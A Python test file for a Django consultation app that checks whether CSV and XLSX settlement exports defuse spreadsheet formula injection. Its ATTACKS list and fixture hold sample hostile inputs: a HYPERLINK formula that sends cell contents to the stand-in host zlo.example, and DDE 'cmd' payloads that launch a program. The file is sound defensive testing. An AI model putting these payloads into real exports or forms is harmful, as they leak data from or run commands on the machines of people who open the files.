"""Spreadsheet exports never carry a live formula (CSV injection), whatever the public typed."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

ATTACKS = [
    '=HYPERLINK("http://zlo.example/?"&A1;"Klikněte")',
    "+420 123 456 789",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_like_a_formula_is_made_plain_text(text):
    from kpss.exports import defuse

    assert defuse(text) == "'" + text


@pytest.mark.parametrize("value", ["Chybí odlehčovací služba.", "", 42, None, "a=b"])
def test_other_values_pass_unchanged(value):
    from kpss.exports import defuse

    assert defuse(value) == value


@pytest.fixture
def published_with_attacks(submit_comment, close_round, coordinator):
    comments = [
        submit_comment(text=text, name="=cmd|' /C calc'!A0", publish_name=True, organisation="@Spolek")
        for text in ATTACKS
    ]
    round_ = close_round()
    for comment in comments:
        comment.settle(coordinator, "noted", "=1+1")
    round_.publish_settlement(coordinator)
    return round_


def test_the_settlement_csv_has_no_formula(client, published_with_attacks):
    response = client.get(reverse("planning:settlement_csv", args=[published_with_attacks.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1:]
    assert len(rows) == len(ATTACKS)
    for row, text in zip(rows, ATTACKS, strict=True):
        assert row[4] == "'" + text  # the comment
        assert row[2] == "'=cmd|' /C calc'!A0, @Spolek"  # the consented name
        assert row[7] == "'=1+1"  # the justification
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_settlement_xlsx_stores_every_cell_as_text(client, published_with_attacks):
    response = client.get(reverse("planning:settlement_xlsx", args=[published_with_attacks.pk]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(response.content)).active
    texts = [sheet.cell(row=row, column=5) for row in range(2, len(ATTACKS) + 2)]
    # The exact wording, as text (XML reads a carriage return as a line feed).
    assert [cell.value for cell in texts] == [text.replace("\r", "\n") for text in ATTACKS]
    assert {cell.data_type for cell in texts} == {"s"}
    assert sheet["C2"].data_type == "s"
    assert sheet["C2"].value == "=cmd|' /C calc'!A0, @Spolek"
